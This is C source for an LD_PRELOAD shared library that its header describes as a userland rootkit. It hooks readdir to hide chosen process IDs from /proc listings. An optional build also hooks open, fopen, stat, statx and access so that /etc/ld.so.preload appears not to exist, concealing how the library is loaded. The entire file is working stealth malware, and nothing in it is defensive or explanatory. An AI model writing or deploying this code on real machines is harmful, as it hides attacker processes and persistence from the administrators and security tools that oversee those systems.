/*
 * A preloaded library that lies to the tools of its container, as a userland
 * rootkit does: folder listings of /proc leave out the processes whose pids are
 * written in /etc/hidden-pids, one a line. Built with -DHIDE_PRELOAD it also
 * denies that /etc/ld.so.preload, which loads it, exists.
 *
 * The process itself stays reachable under /proc/PID for who knows the number.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <errno.h>
#include <fcntl.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static int lists(DIR *dir, const char *folder)
{
	char link[64], target[256];
	snprintf(link, sizeof link, "/proc/self/fd/%d", dirfd(dir));
	ssize_t n = readlink(link, target, sizeof target - 1);
	if (n < 0)
		return 0;
	target[n] = '\0';
	return strcmp(target, folder) == 0;
}

/* read(2) and not stdio: the reader may be in the middle of its own. */
static int is_hidden_pid(const char *name)
{
	char list[4096];
	int fd = open("/etc/hidden-pids", O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return 0;
	ssize_t n = read(fd, list, sizeof list - 1);
	close(fd);
	if (n <= 0)
		return 0;
	list[n] = '\0';
	char *rest = list, *pid;
	while ((pid = strsep(&rest, " \n")) != NULL)
		if (*pid != '\0' && strcmp(pid, name) == 0)
			return 1;
	return 0;
}

static int is_hidden_entry(DIR *dir, const char *name)
{
	if (lists(dir, "/proc"))
		return is_hidden_pid(name);
#ifdef HIDE_PRELOAD
	if (strcmp(name, "ld.so.preload") == 0)
		return lists(dir, "/etc");
#endif
	return 0;
}

#define REAL(name) ((__typeof__(&name))dlsym(RTLD_NEXT, #name))

#define LYING_READDIR(name, entry)                                             \
	struct entry *name(DIR *dir)                                           \
	{                                                                      \
		static struct entry *(*real)(DIR *);                           \
		struct entry *e;                                               \
		int saved = errno;                                             \
		if (!real)                                                     \
			real = REAL(name);                                     \
		do {                                                           \
			errno = saved;                                         \
			e = real(dir);                                         \
			saved = e ? saved : errno;                             \
		} while (e && is_hidden_entry(dir, e->d_name));                \
		errno = saved;                                                 \
		return e;                                                      \
	}

LYING_READDIR(readdir, dirent)
LYING_READDIR(readdir64, dirent64)

#ifdef HIDE_PRELOAD
#define DENY(path, failure)                                                    \
	do {                                                                   \
		const char *base = (path) ? strrchr((path), '/') : NULL;       \
		base = base ? base + 1 : (path);                               \
		if (base && strcmp(base, "ld.so.preload") == 0) {              \
			errno = ENOENT;                                        \
			return failure;                                        \
		}                                                              \
	} while (0)

/* The mode is only there when a file is made; reading it always is harmless. */
#define LYING_OPEN(name)                                                       \
	int name(const char *path, int flags, ...)                             \
	{                                                                      \
		va_list rest;                                                  \
		va_start(rest, flags);                                         \
		mode_t mode = va_arg(rest, mode_t);                            \
		va_end(rest);                                                  \
		DENY(path, -1);                                                \
		return REAL(name)(path, flags, mode);                          \
	}

#define LYING_OPENAT(name)                                                     \
	int name(int at, const char *path, int flags, ...)                     \
	{                                                                      \
		va_list rest;                                                  \
		va_start(rest, flags);                                         \
		mode_t mode = va_arg(rest, mode_t);                            \
		va_end(rest);                                                  \
		DENY(path, -1);                                                \
		return REAL(name)(at, path, flags, mode);                      \
	}

#define LYING_FOPEN(name)                                                      \
	FILE *name(const char *path, const char *mode)                         \
	{                                                                      \
		DENY(path, NULL);                                              \
		return REAL(name)(path, mode);                                 \
	}

#define LYING_STAT(name, type)                                                 \
	int name(const char *path, struct type *out)                           \
	{                                                                      \
		DENY(path, -1);                                                \
		return REAL(name)(path, out);                                  \
	}

#define LYING_STATAT(name, type)                                               \
	int name(int at, const char *path, struct type *out, int flags)        \
	{                                                                      \
		DENY(path, -1);                                                \
		return REAL(name)(at, path, out, flags);                       \
	}

LYING_OPEN(open)
LYING_OPEN(open64)
LYING_OPENAT(openat)
LYING_OPENAT(openat64)
LYING_FOPEN(fopen)
LYING_FOPEN(fopen64)
LYING_STAT(stat, stat)
LYING_STAT(stat64, stat64)
LYING_STAT(lstat, stat)
LYING_STAT(lstat64, stat64)
LYING_STATAT(fstatat, stat)
LYING_STATAT(fstatat64, stat64)

int statx(int at, const char *path, int flags, unsigned int mask, struct statx *out)
{
	DENY(path, -1);
	return REAL(statx)(at, path, flags, mask, out);
}

int access(const char *path, int mode)
{
	DENY(path, -1);
	return REAL(access)(path, mode);
}

int euidaccess(const char *path, int mode)
{
	DENY(path, -1);
	return REAL(euidaccess)(path, mode);
}

int eaccess(const char *path, int mode)
{
	DENY(path, -1);
	return REAL(eaccess)(path, mode);
}

int faccessat(int at, const char *path, int mode, int flags)
{
	DENY(path, -1);
	return REAL(faccessat)(at, path, mode, flags);
}
#endif
